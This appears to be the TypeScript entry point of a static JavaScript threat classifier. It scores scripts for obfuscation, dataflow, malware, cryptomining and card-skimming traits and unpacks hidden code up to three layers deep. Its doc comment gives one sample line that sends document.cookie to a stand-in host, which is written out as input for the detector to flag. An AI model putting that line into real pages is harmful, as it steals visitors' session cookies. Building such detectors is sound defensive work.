import { collectFacts, type Facts } from './facts/facts.ts';
import type { ScoreFamily } from './features/feature.ts';
import { families, features } from './features/features.ts';
import { hiddenCode } from './hidden-code.ts';
import { scoresOf } from './score.ts';
import {
  MOST_SCRIPT_BYTES,
  type NoScores,
  type ScriptReason,
  type ScriptVerdict,
} from './script-verdict.ts';
import { lineStarts, placeIn } from './text-place.ts';
import { parseScript } from './tree/script-parser.ts';
import { readScript } from './tree/script-reading.ts';

/** Code in code in code; deeper is not looked. */
const MOST_LAYERS = 3;
/** Hidden code that is looked at, all in all. */
const MOST_HIDDEN_CHARACTERS = 600_000;

const utf8 = new TextEncoder();

/**
 * Scores a script by what stands in it, without running it. The same text always gives the same answer.
 *
 *     classifyScript('new Image().src = "//x.test/?" + document.cookie').scores.integrity // 7
 */
export function classifyScript(source: string): ScriptVerdict {
  const bytes = source.length > MOST_SCRIPT_BYTES ? source.length : utf8.encode(source).length;
  if (bytes > MOST_SCRIPT_BYTES) {
    return {
      kind: 'too-large',
      problem: `the limit is ${MOST_SCRIPT_BYTES.toLocaleString('en')} bytes`,
    };
  }
  const reasons = new Reasons();
  const failure = look(source, reasons, { layer: 0, left: MOST_HIDDEN_CHARACTERS });
  if (failure) return failure;
  return { kind: 'scored', scores: scoresOf(reasons.points()), reasons: reasons.list() };
}

interface Budget {
  readonly layer: number;
  left: number;
  /** Where the hidden code is run. */
  readonly place?: { readonly line: number; readonly column: number };
  /** What was found in the script around it. */
  readonly outer?: Facts;
}

function look(source: string, reasons: Reasons, budget: Budget): NoScores | undefined {
  const parsed = parseScript(source);
  if (parsed.kind === 'too-deep') {
    return { kind: 'too-deep', problem: 'it is nested too deeply' };
  }
  if (parsed.kind === 'not-javascript') return parsed;
  const facts = collectFacts(readScript(source, parsed), budget.outer);
  const starts = lineStarts(source);
  const placeOf = (node: number) =>
    budget.place ?? placeIn(starts, facts.reading.tree.node(node)?.start ?? 0);
  for (const family of families) {
    for (const feature of features[family]) {
      const [first] = feature.find(facts);
      if (first === undefined) continue;
      const { id, what, points } = feature;
      const isInHiddenCode = budget.layer > 0;
      reasons.add({ id, family, what, points, ...placeOf(first), isInHiddenCode });
    }
  }
  if (budget.layer >= MOST_LAYERS) return undefined;
  for (const { code, node } of hiddenCode(facts)) {
    budget.left -= code.length;
    if (budget.left < 0) break;
    const { left, layer } = budget;
    const inner: Budget = { layer: layer + 1, left, place: placeOf(node), outer: facts };
    look(code, reasons, inner);
    budget.left = inner.left;
  }
  return undefined;
}

/** A feature counts once, also when hidden code has it again. */
class Reasons {
  readonly #found = new Map<string, ScriptReason>();

  add(reason: ScriptReason): void {
    const key = `${reason.family}/${reason.id}`;
    if (!this.#found.has(key)) this.#found.set(key, reason);
  }

  points(): Record<ScoreFamily, number> {
    const sums = { obfuscation: 0, dataflow: 0, malware: 0, cryptomining: 0, magecart: 0 };
    for (const { family, points } of this.#found.values()) sums[family] += points;
    return sums;
  }

  list(): ScriptReason[] {
    return [...this.#found.values()].sort((a, b) => b.points - a.points);
  }
}
